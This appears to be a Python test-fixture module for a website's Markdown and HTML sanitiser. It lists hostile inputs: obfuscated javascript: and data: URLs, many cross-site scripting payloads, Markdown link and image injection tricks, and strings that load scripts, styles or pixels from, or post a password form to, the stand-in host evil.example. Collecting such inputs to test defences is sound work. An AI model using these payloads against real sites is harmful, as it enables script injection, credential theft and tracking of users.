# ruff: noqa: E501 - tables of short texts
"""Texts that try to run, fetch, restyle or mislead. Each family states what it tries."""

_SCRIPT_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)", "&#x20;javascript:alert(1)", "javascript\\:alert(1)", "java\\script:alert(1)",
    "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:1",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg/onload=1>",
    "data:image/png;base64,iVBORw0KGgo=", "file:///etc/passwd", "ftp://evil.example/a", "blob:https://evil.example/1",
    "filesystem:https://evil.example/1", "view-source:https://evil.example", "about:blank", "chrome://settings",
    "ms-word:ofe|u|https://evil.example/a.docx", "search-ms:query=a", "intent://evil.example#Intent;end", "tel:0031",
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\\\\\evil.example", "\\\\evil.example",
    "\\/evil.example", "/%5cevil.example", "%5c%5cevil.example", "/&#9;/evil.example", "/&#10;/evil.example",
    "&#47;&#47;evil.example", "&sol;&sol;evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example",
    "http:\\\\evil.example", "https://bank.example@evil.example", "https://a:b@evil.example", "//[::1", "https://[::1",
    "https://evil.example:port", "https://", "http:", "mailto:", "mailto:?subject=a", "evil.example", "evil.html",
    "../../uitloggen", "?a=b", "jar:https://evil.example!/", "wss://evil.example", "javascript://evil.example/%0aalert(1)",
    "feed:javascript:alert(1)", "x:y", ":", "<javascript:alert(1)>", "<data:text/html,1>", "<//evil.example>",
]  # fmt: skip

_RAW_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src='https://evil.example/pixel.png'>", "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<math><mtext><script>alert(1)</script></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<applet code=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>",
    "<style>*{display:none}</style>", "<div style='background:url(//evil.example)'>x</div>", "<p style=position:fixed>x</p>",
    "<form action=//evil.example><input name=password><button>ok</button></form>", "<button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video src=//evil.example onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video poster=//evil.example/p.png>", "<body onload=alert(1)>",
    "<html onclick=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://evil.example' target=_blank>x</a>", "<a ping=//evil.example href=/>x</a>",
    "<a id=reactie-1>x</a>", "<a name=csrf_token>x</a>", "<b id=csrf_token>x</b>", "<p class=dso-notice>x</p>",
    "<span class=dso-mention>@Alice van den Berg</span>", "<span class='dso-mention x'>x</span>", "<b hx-get=/uitloggen>x</b>",
    "<b hx-on:click=alert(1)>x</b>", "<b data-hx-post=/overleg>x</b>", "<b onclick=alert(1)>x</b>", "<b/onclick=alert(1)>x",
    "<x onclick=alert(1)>x</x>", "<custom-element onclick=alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE html [<!ENTITY x 'y'>]>", "</p><script>alert(1)</script>",
    "<table background=//evil.example><tr><td>x", "<tr><td style=a>x", "<img src=x:alert(1) onerror=eval(src)>",
    "<\x00script>alert(1)</script>", "<script\x00>alert(1)</script>", "<script/\x0c>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "\ufeff<script>alert(1)</script>", "<img src=x on\u202eerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<p><svg><desc><img src=x onerror=alert(1)>",
    "<a href='https://a.example' onmouseover='alert(1)'>x</a>", "<font color=red>x</font>", "<center>x</center>",
    "<dialog open>x</dialog>", "<portal src=//evil.example>", "<slot onslotchange=alert(1)>", "<picture><source srcset=//e.example>",
]  # fmt: skip

_MARKDOWN = [
    "![x](https://evil.example/pixel.png)", "![x](data:image/png;base64,AAAA)", "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/pixel.png", "[![x](https://evil.example/p.png)](https://evil.example)",
    "![\"onerror=\"alert(1)](https://evil.example/x.png)", "[x](https://a.example \"onclick=alert(1)\")",
    "[x](https://a.example '\"><script>alert(1)</script>')", "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/\"onmouseover=\"alert(1)>)", "[x](https://a.example/<script>)", "[<script>alert(1)</script>](/)",
    "[x][1]\n\n[1]: javascript:alert(1)", "[x]\n\n[x]: data:text/html,<script>", "[x]: //evil.example\n\n[x]",
    "[x]: https://a.example \"<img src=x onerror=alert(1)>\"\n\n[x]", "[a](</\\evil.example>)", "[a](< javascript:alert(1)>)",
    "[a](java\nscript:alert(1))", "[a]( \n javascript:alert(1))", "[a](\tjavascript:alert(1))",
    "<https://a.example/\"onclick=\"alert(1)>", "<https://a.example/'><script>alert(1)</script>", "<a@b.example\"onclick=1>",
    "https://a.example/\"onmouseover=\"alert(1)", "https://a.example/<script>alert(1)</script>", "https://a.example/'><img src=x>",
    "https://a.example/`<img src=x onerror=alert(1)>`", "https://a.example/&quot;onclick=1", "javascript://a.example/%0aalert(1)",
    "https://javascript:alert(1)", "xhttps://a.example", "https://https://a.example", "http://[::1]/", "http://a.example:99999999/",
    "```\n<script>alert(1)</script>\n```", "```html\n<img src=x onerror=alert(1)>\n```", "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```", "~~~js class=a id=b\nx\n~~~", "`<script>alert(1)</script>`", "`` ` <img onerror=1> ``",
    "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>",
    "# <script>alert(1)</script>", "# x {#id .class onclick=alert(1)}", "[x](/){target=_blank onclick=alert(1)}", "x\n===\n<script>",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=1> | `|` |", "|a|b|\n|:-:|-:|\n|[x](javascript:1)|![x](//e.example)|",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;", "&#0;&#x0;&#xd800;&#x110000;&#xfffe;", "&#x202e;gpj.exe", "\\<script\\>alert(1)\\</script\\>",
    "*<script>*alert(1)*</script>*", "**[x](javascript:alert(1))**", "~~<img src=x onerror=alert(1)>~~", "[x](/)<script>",
    "{{ 7*7 }} {% include 'x' %} ${7*7} <%= 7 %>", "\ud800<script>", "\ud83d", "\x00\x01\x02<b>", "a\u2028<script>alert(1)</script>",
    "99999999999999999999. x", "0. x", "-1. x", "2147483648. x", "[^1]: <script>\n\n[^1]", "[x]:\n<javascript:alert(1)>\n\n[x]",
    "@<script>alert(1)</script>", "@\"onclick=alert(1)", "<span class=\"dso-mention\">@Beheer</span>", ":smile:<svg/onload=1>",
    "[a](mailto:a@b.example?body=<script>)", "<mailto:a@b.example\"onclick=1>", "[a](#\"onclick=alert(1))", "[a](/x\"onclick=alert(1))",
]  # fmt: skip

HOSTILE = [
    *_RAW_HTML,
    *_MARKDOWN,
    *(
        form.format(address)
        for address in _SCRIPT_ADDRESSES
        for form in ("[klik]({})", "[klik](<{}>)", "<{}>")
    ),
    *(f"[klik][1]\n\n[1]: {address}" for address in _SCRIPT_ADDRESSES),
]

_SAFE_AFTER_ALL = {"\\/evil.example"}  # Markdown takes the backslash away: a path on this site
LEADS_ASTRAY = [a for a in _SCRIPT_ADDRESSES if not a.startswith("<") and a not in _SAFE_AFTER_ALL]
